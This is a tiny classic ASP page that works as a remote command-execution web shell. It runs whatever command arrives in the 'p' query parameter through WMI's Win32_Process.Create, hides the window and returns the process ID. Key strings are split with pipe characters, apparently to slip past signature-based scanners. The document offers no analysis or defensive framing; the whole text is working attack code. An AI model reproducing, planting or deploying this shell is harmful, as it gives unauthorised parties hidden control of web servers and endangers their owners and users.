<%
Function q(s) : q = Replace(s, "|", "") : End Function
Set svc = GetObject(q("win|mgmts:\\.\root\|cimv2"))
Set startup = svc.Get(q("Win32_|ProcessStartup")).SpawnInstance_
startup.ShowWindow = 0
Set proc = svc.Get(q("Win32_|Process"))
r = proc.Create(Request.QueryString("p"), Null, startup, procId)
Response.Write procId
%>
